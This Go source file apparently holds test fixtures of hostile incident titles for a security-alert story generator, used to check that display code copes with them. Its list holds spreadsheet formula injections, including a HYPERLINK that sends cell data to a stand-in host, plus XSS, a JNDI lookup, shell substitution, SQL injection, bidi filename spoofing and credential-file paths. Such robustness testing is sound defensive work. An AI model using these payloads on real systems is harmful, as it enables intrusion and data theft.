package story

import "strings"

// hostile are titles of which every one has broken some program that showed it.
var hostile = []string{
	"=cmd|'/C calc'!A0",
	"+HYPERLINK(\"http://collect.example/?x=\"&A1,\"open\")",
	"@SUM(1+1)*cmd|' /C notepad'!A0",
	"-2+3+cmd|' /C calc'!A0",
	"<script>alert('incident')</script><img src=x onerror=alert(1)>",
	"[Click here](http://collect.example/steal) **now** ![x](http://collect.example/p.png)",
	"Invoice \u202egnp.exe\u202c opened by finance",
	"\u2067Payroll\u2069 \u200e\u200f\u061c\u2066report\u2069 \u202dshared\u202c",
	"Line one\r\nLine two\tTabbed\vVertical\u0085NEL\u2028LS\u2029PS",
	"Bell \a escape \x1b[31mred\x1b[0m \x1b]0;title\x07 backspace \b null \x00 end",
	"%s%s%s%n %d %x ${jndi:ldap://collect.example/a} {{7*7}} $(id) `id` '; DROP TABLE incidents;--",
	"e\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301 Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319 \U0001F469\u200D\U0001F469\u200D\U0001F467\u200D\U0001F466 zero\u200bwidth\u200djoin \ufeff",
	"\u0645\u062d\u0627\u0648\u0644\u0629 \u062a\u0633\u062c\u064a\u0644 (admin) 10.0.0.1 -> \u05e9\u05e8\u05ea",
	strings.Repeat("A title of five thousand characters does not fit a row. ", 90)[:5000],
	"   leading and trailing blanks   ",
	"C:\\Users\\..\\..\\Windows\\System32\\config\\SAM file:///etc/passwd \\\\192.0.2.7\\share",
}

var hostileStage = stage{
	sev: Low, desc: "The title of this incident was written by whoever sent the data.\n<b>So was this description</b> & it has \"quotes\" and a \u202ebidi\u202c turn.",
	tactics: "Discovery", techs: "T1082", alerts: []alertPlot{{"Custom detection with text from a log line", Scheduled, "user1 host1 url1"}},
	verdict: BenignPositive, detail: "securityTesting",
}
